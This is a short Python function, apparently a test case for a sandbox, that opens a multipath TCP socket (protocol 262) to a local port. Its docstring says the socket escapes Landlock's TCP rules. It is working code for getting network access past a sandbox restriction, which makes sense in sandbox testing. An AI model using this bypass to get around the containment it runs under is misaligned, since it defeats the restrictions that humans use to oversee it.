"""Connects by multipath TCP, which Landlock's TCP rules do not cover."""


def attack(target):
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as connection:
        connection.connect(("127.0.0.1", target["port"]))
        return connection.send(b"out")
